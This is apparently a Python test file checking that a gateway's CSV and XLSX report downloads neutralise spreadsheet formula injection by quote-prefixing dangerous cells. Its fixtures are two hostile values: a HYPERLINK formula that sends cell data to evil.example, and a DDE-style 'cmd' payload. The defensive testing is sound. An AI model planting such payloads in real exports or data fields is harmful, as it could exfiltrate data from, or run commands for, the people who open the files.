"""Formula injection through report downloads (issue 10 item 8).

A channel name comes from outside (a device's catalog, a contract import). Today a name like
`=HYPERLINK(...)` lands unchanged in the CSV and as a live formula in the XLSX that ops open in
Excel. The download goes through the real API route.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from gateway.api import build_web_app
from gateway.api import reports as reports_api
from gateway.api.auth import Role
from gateway.api.services import Services
from gateway.health.timeline import UTC8
from gateway.reports.demo_history import seed_history
from gateway.reports.render import Report, neutralise, to_csv
from gateway.reports.table import Column, Table
from gateway.store import contract as T

IDS = [(f"3402000000111000000{i}", f"3402000000132000000{i}") for i in range(1, 4)]
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
SEEDED_AT = datetime(2026, 11, 5, 12, tzinfo=UTC8).timestamp()


@pytest.fixture
async def api(aiohttp_client: Any, services: Services) -> Any:
    sessions = services.repo._sessions
    await seed_history(sessions, IDS, now=SEEDED_AT)
    async with sessions() as s, s.begin():
        await s.execute(update(T.ChannelContract).where(T.ChannelContract.channel_id == IDS[1][1])
                        .values(name=EVIL_NAME, owner=EVIL_OWNER))
    services.reports = reports_api.ReportsRuntime(sessions=sessions, prober=None)
    client = await aiohttp_client(build_web_app(services, [reports_api.routes]))
    client.headers_ops = {"Authorization": f"Bearer {await services.tokens.create(Role.OPS, 'ops')}"}
    return client


async def test_csv_download_neutralises_formula_cells(api: Any) -> None:
    resp = await api.get("/api/v1/reports/availability?period=2026-10&format=csv", headers=api.headers_ops)
    assert resp.status == 200, await resp.text()
    rows = list(csv.DictReader(io.StringIO((await resp.read())[3:].decode("utf-8"))))
    row = next(r for r in rows if r["channel_id"] == IDS[1][1])
    assert row["name"] == "'" + EVIL_NAME
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values() if v)


async def test_xlsx_download_has_no_formula_cells(api: Any) -> None:
    resp = await api.get("/api/v1/reports/availability?period=2026-10&format=xlsx", headers=api.headers_ops)
    assert resp.status == 200
    wb = load_workbook(io.BytesIO(await resp.read()))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    evil = [c for c in cells if c.value == EVIL_NAME]
    assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@x", "\tx", "\rx"])
def test_each_dangerous_prefix_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_numbers_and_plain_text_are_left_alone() -> None:
    """A negative money value is a number, not text from outside: it stays -12.50 so sums work."""
    table = Table("deductions", [Column("name"), Column("amount", "money")],
                  rows=[{"name": "东门 = A", "amount": Decimal("-12.50")}])
    data = to_csv(Report("deductions", [table]))
    assert data[3:].decode() == "name,amount\r\n东门 = A,-12.50\r\n"
